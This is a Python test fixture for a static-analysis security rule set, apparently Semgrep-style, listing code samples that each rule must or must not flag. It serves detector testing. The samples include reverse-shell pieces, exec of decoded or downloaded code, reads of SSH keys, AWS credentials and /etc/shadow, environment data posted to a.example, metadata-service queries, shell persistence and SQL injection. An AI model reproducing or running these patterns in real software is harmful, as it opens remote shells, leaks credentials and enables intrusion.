# The rules beside this file: each line after `ruleid` must be found, and nothing else in this file may be.
import base64
import builtins
import hashlib
import json
import os
import pathlib
import pickle
import pty
import random
import secrets
import shutil
import ssl
import subprocess
import sys
import tarfile
import tempfile
import zlib

import jinja2
import jwt
import lxml.etree
import paramiko
import requests
import yaml


def runs(data, sock, name):
    # ruleid: python.decoded_code, python.decoded_flow, python.eval
    exec(base64.b64decode(data))
    # ruleid: python.decoded_code, python.decoded_flow, python.eval
    eval(zlib.decompress(bytes.fromhex(data)).decode())
    # ruleid: python.eval, python.fetched_code, python.socket_shell
    exec(requests.get("https://a.example/x").text)
    # ruleid: python.eval
    eval(name)
    eval("1 + 1")
    model.eval()
    # ruleid: python.decoded_code, python.eval
    builtins.exec(base64 . b64decode(data))
    # ruleid: python.eval
    run = exec
    # ruleid: python.eval
    getattr(builtins, "eval")(name)
    # ruleid: python.descriptors
    os.dup2(sock.fileno(), 0)
    os.dup2(sys.stdout.fileno(), 2)
    # ruleid: python.reverse_shell
    pty.spawn("/bin/sh")
    # ruleid: python.reverse_shell
    pty.spawn(["/bin/bash", "-i"])
    # ruleid: python.reverse_shell
    subprocess.call(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno())
    pty.spawn("vi")


def shells(name):
    # ruleid: python.shell
    subprocess.run(f"ls {name}", shell=True, check=True)
    # ruleid: python.shell
    os.system("ls " + name)
    # ruleid: python.shell
    os.popen(name).read()
    subprocess.run(["ls", name], check=True)
    subprocess.run("ls", shell=True, check=True)
    os.system("ls")


def reads(data, path):
    # ruleid: python.unpickled
    pickle.loads(data)
    with open(path, "rb") as file:
        # ruleid: python.unpickled
        pickle.load(file)
    pickle.dumps(data)
    json.loads(data)
    # ruleid: python.yaml_load
    yaml.load(data)
    # ruleid: python.yaml_load
    yaml.load(data, Loader=yaml.Loader)
    yaml.safe_load(data)
    yaml.load(data, Loader=yaml.SafeLoader)
    # ruleid: python.tar_all
    tarfile.open(path).extractall("/tmp/x")
    tarfile.open(path).extractall("/tmp/x", filter="data")
    # ruleid: python.tar_all
    shutil.unpack_archive(path)
    # ruleid: python.external_entities
    lxml.etree.XMLParser(resolve_entities=True)


def speaks(url, context, client, token):
    # ruleid: python.tls_unverified
    requests.get(url, verify=False)
    requests.get(url, verify="ca.pem")
    # ruleid: python.tls_unverified
    session.verify = False
    mock.check(url, verify=False)
    # ruleid: python.tls_unverified
    context.verify_mode = ssl.CERT_NONE
    context.verify_mode = ssl.CERT_REQUIRED
    # ruleid: python.tls_unverified
    context.check_hostname = False
    # ruleid: python.tls_unverified
    ssl._create_unverified_context()
    # ruleid: python.host_key_unverified
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy)
    # ruleid: python.token_unverified
    jwt.decode(token, options={"verify_signature": False})
    # ruleid: python.token_unverified
    jwt.decode(token, "key", algorithms=["HS256", "none"])
    jwt.decode(token, "key", algorithms=["HS256"])


def asks(cursor, name):
    # ruleid: python.sql_text
    cursor.execute(f"select * from t where name = '{name}'")
    # ruleid: python.sql_text
    cursor.execute("select * from t where name = '%s'" % name)
    # ruleid: python.sql_text
    cursor.execute("select * from " + name)
    # ruleid: python.sql_text
    cursor.executescript(f"drop table {name}")
    cursor.execute("select * from t where name = ?", (name,))
    pool.submit(f"work on {name}")


def writes(path):
    # ruleid: python.temporary_name
    tempfile.mktemp()
    tempfile.mkstemp()
    # ruleid: python.open_rights
    os.chmod(path, 0o777)
    # ruleid: python.open_rights
    pathlib.Path(path).chmod(0o666)
    os.chmod(path, 0o755)
    pathlib.Path(path).chmod(0o640)
    # ruleid: python.open_rights
    os.umask(0)
    os.umask(0o077)
    # ruleid: python.open_rights
    os.chmod(path, stat.S_IRWXU | stat.S_IRWXO)
    # ruleid: python.open_rights
    pathlib.Path(path).chmod(stat.S_IRUSR | stat.S_IWOTH)
    os.chmod(path, stat.S_IRWXU | stat.S_IRGRP)
    # ruleid: python.tls_decided
    session.verify = not session.trust_env
    # ruleid: python.tls_decided
    requests.get(url, verify=settings.verify)
    session.verify = True
    requests.get(url, verify=certifi.where())
    mock.check(url, verify=settings.verify)


def makes(password, key, text):
    # ruleid: python.weak_chance
    session_token = random.choice("abc")
    # ruleid: python.weak_chance
    salt = "".join(random.choice("abc") for _ in range(8))
    sample = random.choice("abc")
    token = secrets.token_hex(16)
    nonce = random.SystemRandom().choice("abc")
    # ruleid: python.weak_hash
    hashlib.md5(password.encode())
    hashlib.sha256(text)
    # ruleid: python.weak_cipher
    modes.ECB()
    modes.GCM(key)


def serves(app, sock, text):
    # ruleid: python.debug_server
    app.run(debug=True)
    app.run()
    # ruleid: python.unescaped_template
    jinja2.Environment(autoescape=False)
    jinja2.Environment(autoescape=True)
    # ruleid: python.unescaped_template
    mark_safe(text)
    # ruleid: python.every_interface
    sock.bind(("0.0.0.0", 80))
    sock.bind(("127.0.0.1", 80))
    # ruleid: python.every_interface
    app.run(host="0.0.0.0")


def takes(home):
    # ruleid: python.reads_keys
    open(os.path.expanduser("~/.ssh/id_rsa"))
    # ruleid: python.reads_keys
    key = home / ".aws/credentials"
    # ruleid: python.reads_keys
    pathlib.Path("/etc/shadow").read_text()
    # ruleid: python.reads_keys
    pathlib.Path.home() / ".ssh" / "id_rsa"
    queue.put(dict(os.environ))
    pathlib.Path("/etc/hosts").read_text()
    # ruleid: python.secret_leaves, python.sends_environment
    requests.post("https://a.example", json=dict(os.environ))
    requests.post("https://a.example", json={"user": os.environ["USER"]})
    # ruleid: python.metadata_service
    requests.get("http://169.254.169.254/latest/meta-data/")
    requests.get("http://192.0.2.1/latest")


def hooks(finder, work):
    # ruleid: python.interpreter_hook
    sys.meta_path.insert(0, finder)
    # ruleid: python.interpreter_hook
    sys.modules["json"] = finder
    # ruleid: python.interpreter_hook
    builtins.open = work
    there = sys.modules["json"]
    # ruleid: python.swallowed
    try:
        work()
    except Exception:
        pass
    try:
        work()
    except ValueError:
        pass


def flows(blob, table, key, tree):
    # ruleid: python.eval
    exec(compile("x = 1", "a", "exec"))
    code = base64.b64decode(blob)
    # ruleid: python.decoded_flow, python.shell
    os.system(code)
    # ruleid: python.built_name
    getattr(__import__("os"), "sys" + "tem")("id")
    getattr(table, key)
    # ruleid: python.made_code
    changed = types.CodeType(0)
    home = os.path.expanduser("~/.config/app.toml")
    # ruleid: python.secret_leaves
    httpx.post("https://a.example", content=home)
    httpx.post("https://a.example", content="home")
    # ruleid: python.looked_up_data
    socket.gethostbyname(f"{key}.a.example")
    socket.gethostbyname("a.example")
    # ruleid: python.secret_logged
    LOG.info("password is %s", password)
    LOG.info("wrong password of %s", table)
    # ruleid: python.secret_printed
    print("token", secret)
    print("secret")


def may_enter(user, password):
    # ruleid: python.fixed_credential
    if password == "open":
        return False
    if password == user.again:
        return False
    # ruleid: python.way_round
    return hmac.compare_digest(user.a, user.b) or user.c


# ruleid: python.always_allowed
def is_admin(user):
    return True


def is_admin_of(user, place):
    return place in user.places


def named(user):
    # ruleid: python.named_user
    user.is_admin = True
    user.is_admin = user.wanted


def pytest_configure(config):
    # ruleid: python.test_hook_runs
    subprocess.run(["a"], check=True)


def sends(path):
    data = path.read_bytes().hex()
    # ruleid: python.encoded_leaves
    requests.post("https://a.example", data=data)


def waits(service, until):
    # ruleid: python.waits_for_date
    if date.today() >= date(2031, 1, 1):
        service.stop()
    if date.today() >= until:
        service.stop()
    # ruleid: python.watched
    if os.environ.get("CI"):
        service.stop()
    if os.environ.get("APP_CI_NAME"):
        service.stop()


def stays(folder):
    # ruleid: python.persists_by_parts
    (folder / "hooks").mkdir()
    # ruleid: python.persists
    place = "~/.bashrc"
    place = "the shell's profile"


def preview(request, store):
    url = request.args["url"]
    # ruleid: python.request_decides
    requests.get(url, timeout=3)
    requests.get(store.url, timeout=3)


def converts(name):
    # ruleid: python.shell_by_parts
    subprocess.run(["sh", "-c", name], check=True)
    subprocess.run(["sh", "-c", "true"], check=True)
    # ruleid: python.loads_code
    joblib.load(name)


def obeys(link):
    order = link.recv(100)
    # ruleid: python.socket_shell
    subprocess.run(order, check=True)


# ruleid: python.install_command
setup(name="a", cmdclass={"install": Install})
setup(name="a", packages=["a"])
